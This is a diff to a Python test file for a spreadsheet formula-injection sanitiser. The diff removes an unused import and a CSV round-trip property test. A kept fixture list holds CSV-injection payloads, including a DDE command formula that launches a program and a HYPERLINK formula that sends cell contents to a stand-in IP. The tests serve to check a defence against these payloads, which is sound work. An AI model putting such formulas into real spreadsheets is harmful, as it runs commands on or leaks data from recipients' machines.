@@ -1,13 +1,10 @@
 """What a spreadsheet would run, and what it would not."""
 
-import csv
-import io
-
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from analysis.report.spreadsheet import harmless, text
+from analysis.report.spreadsheet import harmless
 
 FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://192.0.2.1/"&A1)']
 BEFORE = [
@@ -69,9 +66,3 @@ def test_a_number_is_itself(value: object) -> None:
 @given(st.text())
 def test_nothing_is_lost(name: str) -> None:
     assert harmless(name) in {name, f"'{name}"}
-
-
-@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=4))
-def test_a_file_reads_back_as_the_same_cells(row: list[str]) -> None:
-    written = text(row, [row, row])
-    assert list(csv.reader(io.StringIO(written, newline=""))) == [row, *[[harmless(each) for each in row]] * 2]
